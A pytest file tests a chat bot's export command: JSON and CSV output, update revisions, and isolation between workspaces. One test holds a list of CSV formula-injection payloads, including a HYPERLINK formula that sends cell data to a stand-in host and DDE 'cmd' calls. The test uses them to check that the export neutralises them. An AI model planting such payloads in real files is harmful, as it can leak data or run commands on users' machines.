"""`ictbot export` and the export service: everything, every revision, nothing from another workspace."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import pytest
from sqlalchemy import event

from bot.services import lease, meetings, projects, roles, updates, workspaces
from bot.services.quickform import UpdateText
from bot.transfer import export
from models import Rag, Role, UpdateSource
from tests.conftest import ADMIN, DELEGATE, OWNER

TRICKY = 'Links delayed, supplier says "March"\nSecond line – with a dash'


@pytest.fixture
def history(runtime, standin, workplan, clock):
    """NET-01: one update, corrected an hour later (two revisions). PCI-01: one update. Others: none."""
    with runtime.unit(standin.team_id) as (session, ws):
        net = projects.get(session, ws, "NET-01")
        first = updates.post(
            session,
            ws,
            net,
            user_id=OWNER,
            is_admin=False,
            text=UpdateText(Rag.AMBER, "Links delayed"),
            source=UpdateSource.COMMAND,
            now=clock.now,
        )
    clock.advance(hours=1)
    with runtime.unit(standin.team_id) as (session, ws):
        update = updates.get(session, ws, first.update_id)
        updates.correct(
            session,
            ws,
            update,
            user_id=OWNER,
            is_admin=False,
            text=UpdateText(Rag.RED, TRICKY, next_steps="Chase BT", risks="=SUM(A1)"),
            now=clock.now,
        )
    clock.advance(days=1)
    with runtime.unit(standin.team_id) as (session, ws):
        pci = projects.get(session, ws, "PCI-01")
        updates.post(
            session,
            ws,
            pci,
            user_id=ADMIN,
            is_admin=True,
            text=UpdateText(Rag.GREEN, "Q3 scan passed"),
            source=UpdateSource.MODAL,
            now=clock.now,
        )
    clock.advance(days=1)
    return first.update_id


def test_json_export_holds_strategy_projects_and_every_revision(ictbot, history):
    result = ictbot("export", "--format", "json")

    assert result.exit_code == 0, result.stderr
    doc = json.loads(result.stdout)
    assert (doc["format"], doc["version"]) == ("ictbot-export", 2)
    assert doc["exported_at"] == "2026-11-26T10:30:00Z"
    assert doc["workspace"] == {
        "team_id": "T0COUNCIL",
        "platform": "slack",
        "name": "",
        "created_at": "2026-11-24T09:30:00Z",
        "chair_usergroup_id": None,
    }
    [strategy] = doc["strategies"]
    assert (strategy["name"], strategy["active"]) == ("ICT Strategy 2014–2016", True)
    assert [(p["position"], p["code"]) for p in strategy["priorities"]] == [
        (1, "SD"),
        (2, "GOV"),
        (3, "ARCH"),
        (4, "BD"),
        (5, "WF"),
    ]
    assert [p["ref"] for p in doc["projects"]] == ["EFORM-01", "MOB-01", "NET-01", "PCI-01", "TRN-01"]
    net = next(p for p in doc["projects"] if p["ref"] == "NET-01")
    assert net == {
        "ref": "NET-01",
        "title": "Council network refresh",
        "strategy": "ICT Strategy 2014–2016",
        "priority_code": "ARCH",
        "priority_name": "ICT Strategic Architecture",
        "owner": OWNER,
        "delegates": [DELEGATE],
        "service_area": "",
        "status": "active",
        "target_date": None,
        "completed_on": None,
        "created_at": "2026-11-24T09:30:00Z",
    }
    assert [(u["project_ref"], u["author"], u["source"]) for u in doc["updates"]] == [
        ("NET-01", OWNER, "command"),
        ("PCI-01", ADMIN, "modal"),
    ]
    corrected = doc["updates"][0]
    assert corrected["id"] == history and corrected["created_at"] == "2026-11-24T09:30:00Z"
    assert corrected["revisions"] == [
        {
            "number": 1,
            "rag": "amber",
            "progress": "Links delayed",
            "next_steps": "",
            "risks": "",
            "editor": OWNER,
            "created_at": "2026-11-24T09:30:00Z",
        },
        {
            "number": 2,
            "rag": "red",
            "progress": TRICKY,
            "next_steps": "Chase BT",
            "risks": "=SUM(A1)",
            "editor": OWNER,
            "created_at": "2026-11-24T10:30:00Z",
        },
    ]


def test_csv_export_has_a_row_per_revision_and_keeps_projects_without_updates(ictbot, history):
    result = ictbot("export", "--format", "csv")

    assert result.exit_code == 0, result.stderr
    table = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert list(table[0]) == list(export.CSV_COLUMNS)
    assert [(r["project_ref"], r["revision"]) for r in table] == [
        ("EFORM-01", ""),
        ("MOB-01", ""),
        ("NET-01", "1"),
        ("NET-01", "2"),
        ("PCI-01", "1"),
        ("TRN-01", ""),
    ]
    first, second = table[2], table[3]
    assert first["update_id"] == second["update_id"] == str(history)
    assert (first["rag"], first["progress"], first["revision_created_at"]) == (
        "amber",
        "Links delayed",
        "2026-11-24T09:30:00Z",
    )
    assert (second["rag"], second["progress"], second["next_steps"], second["risks"]) == (
        "red",
        TRICKY,
        "Chase BT",
        "'=SUM(A1)",  # a formula typed as text stays text in a spreadsheet (OWASP: CSV injection)
    )
    assert second["update_created_at"] == "2026-11-24T09:30:00Z"
    assert second["revision_created_at"] == "2026-11-24T10:30:00Z"
    assert (second["author"], second["editor"], second["source"]) == (OWNER, OWNER, "command")
    assert (second["priority_code"], second["priority_name"], second["strategy"]) == (
        "ARCH",
        "ICT Strategic Architecture",
        "ICT Strategy 2014–2016",
    )
    assert (second["owner"], second["delegates"], second["status"]) == (OWNER, DELEGATE, "active")
    idle = table[1]
    assert idle["project_title"] == "Mobile carrier cut-across"
    assert all(idle[c] == "" for c in export.CSV_COLUMNS[export.CSV_COLUMNS.index("update_id") :])


FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula(ictbot, runtime, standin, clock):
    """Hostile text in every user-written column (project title, service area, update texts): read back, each
    cell is the text as typed (its bidi control gone) with a ' in front where a spreadsheet would compute it."""
    with runtime.unit(standin.team_id) as (session, ws):
        for i, formula in enumerate(FORMULAS):
            project = projects.add(
                session,
                ws,
                ref=f"X-{i:02d}",
                title=formula,
                priority="ARCH",
                owner=OWNER,
                service_area=formula,
                now=clock.now,
            )
            text = UpdateText(Rag.RED, formula + "\u202e", next_steps=formula, risks="plain " + formula)
            updates.post(
                session, ws, project, user_id=OWNER, is_admin=True, text=text, source=UpdateSource.MODAL, now=clock.now
            )

    result = ictbot("export", "--format", "csv")

    assert result.exit_code == 0, result.stderr
    table = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(table) == len(FORMULAS)
    hyperlink = table[0]
    assert hyperlink["project_title"] == hyperlink["next_steps"] == "'" + FORMULAS[0]
    assert hyperlink["progress"] == "'" + FORMULAS[0]  # the bidi control typed after it is gone
    assert hyperlink["risks"] == "plain " + FORMULAS[0]  # a formula inside a cell is only text
    for row, formula in zip(table, FORMULAS, strict=True):
        for column in ("project_title", "service_area", "progress", "next_steps"):
            cell = row[column]
            # Nothing a spreadsheet would compute: a ' before whatever would start a formula.
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            # And otherwise what was typed (trimmed where the bot trims it, a CR read as a line break).
            typed = formula.replace("\r", "\n")
            assert cell.removeprefix("'") in (typed, typed.strip()), (column, cell)


def test_export_to_a_file_reports_what_it_wrote(ictbot, history, tmp_path):
    path = tmp_path / "out.json"

    result = ictbot("export", "--format", "json", "--output", str(path))

    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert "Wrote 5 projects and 2 updates (3 revisions) of workspace T0COUNCIL" in result.stderr
    assert len(json.loads(path.read_text(encoding="utf-8"))["updates"]) == 2


def test_export_never_includes_another_workspace(ictbot, runtime, history, clock):
    with runtime.unit("T0OTHER") as (session, ws):
        projects.add(session, ws, ref="ZZ-01", title="Elsewhere", priority="SD", owner="U0ELSE", now=clock.now)

    result = ictbot("export", "--format", "csv", "--team", "T0COUNCIL")

    assert result.exit_code == 0, result.stderr
    refs = {r["project_ref"] for r in csv.DictReader(io.StringIO(result.stdout, newline=""))}
    assert refs == {"EFORM-01", "MOB-01", "NET-01", "PCI-01", "TRN-01"}
    other = json.loads(ictbot("export", "--team", "T0OTHER").stdout)
    assert ([p["ref"] for p in other["projects"]], other["updates"]) == (["ZZ-01"], [])


def test_export_of_a_team_not_in_the_database_says_so_and_creates_nothing(ictbot, history):
    result = ictbot("export", "--team", "T0NOPE")

    assert result.exit_code == 1
    assert result.stderr == "ictbot: There is no workspace T0NOPE in this database (it holds T0COUNCIL).\n"


def test_gather_reads_with_the_same_few_statements_however_many_projects(runtime, standin, history, clock):
    def statements() -> int:
        seen: list[str] = []

        def record(_conn, _cursor, statement, *_rest) -> None:
            seen.append(statement)

        with runtime.sessions() as session:
            ws = workspaces.find(session, standin.team_id)
            assert ws is not None
            event.listen(runtime.engine, "before_cursor_execute", record)
            try:
                data = export.gather(session, ws, exported_at=clock.now)
            finally:
                event.remove(runtime.engine, "before_cursor_execute", record)
        assert data.projects and data.updates
        return len(seen)

    before = statements()
    with runtime.unit(standin.team_id) as (session, ws):
        for i in range(6):
            p = projects.add(
                session,
                ws,
                ref=f"EXTRA-{i}",
                title=f"Extra {i}",
                priority="WF",
                owner=OWNER,
                delegates=[DELEGATE],
                now=clock.now,
            )
            updates.post(
                session,
                ws,
                p,
                user_id=OWNER,
                is_admin=False,
                text=UpdateText(Rag.GREEN, "ok"),
                source=UpdateSource.COMMAND,
                now=clock.now,
            )
    # strategies, priorities, aims, projects, delegates, updates, revisions, the projects' history; roles, the
    # meeting series, closures, meetings, reminders, digest posts; the report settings, narrative and sign-offs;
    # the people directory; the risks and issues, their revisions, the priorities and the projects' refs they name;
    # decisions and actions; assurance obligations, results and reminders; the digests posted by hand
    assert statements() == before == 28


def test_json_export_holds_roles_and_the_meeting_calendar(ictbot, runtime, standin, history, clock):
    with runtime.unit(standin.team_id) as (session, ws):
        roles.grant(session, ws, "U0CHAIR", Role.CHAIR, by=ADMIN, now=clock.now)
        meetings.materialise(session, ws, now=clock.now, default_timezone="Europe/London")
        meetings.add_closure(
            session, ws, date(2026, 12, 8), "Office move", now=clock.now, by=ADMIN, default_timezone="Europe/London"
        )

    doc = json.loads(ictbot("export").stdout)

    assert doc["roles"] == [
        {"user_id": "U0CHAIR", "role": "chair", "granted_by": ADMIN, "created_at": "2026-11-26T10:30:00Z"}
    ]
    assert doc["meeting_series"] == {
        "rrule": "FREQ=MONTHLY;BYDAY=+2TU",
        "anchor": "2026-11-26",
        "local_time": "10:00:00",
        "duration_minutes": 60,
        "timezone": "Europe/London",
        "holiday_region": "ENG",
        "channel_id": None,
        "reminder_stages": "5@09:30,1@09:30",
        "digest_stage": "1@12:00",
        "updated_by": "default",
        "updated_at": "2026-11-26T10:30:00Z",
    }
    assert doc["closures"] == [
        {"day": "2026-12-08", "reason": "Office move", "created_by": ADMIN, "created_at": "2026-11-26T10:30:00Z"}
    ]
    december = doc["meetings"][0]
    assert december == {
        "occurrence": "2026-12-08",
        "starts_at": "2026-12-09T10:00:00Z",
        "status": "scheduled",
        "moved": False,
        "note": "moved from Tue 8 Dec: a closure day (Office move)",
        "revision": 1,
        "changed_by": None,
        "updated_at": "2026-11-26T10:30:00Z",
    }
    assert (doc["reminders"], doc["digest_posts"]) == ([], [])


def test_json_export_never_holds_the_lease(ictbot, runtime, history, clock):
    with runtime.sessions.begin() as session:
        assert lease.acquire(session, "reconcile", "host:1:2", now=clock.now, ttl=timedelta(minutes=2))

    doc = json.loads(ictbot("export").stdout)

    assert "lease" not in json.dumps(doc) and "host:1:2" not in json.dumps(doc)
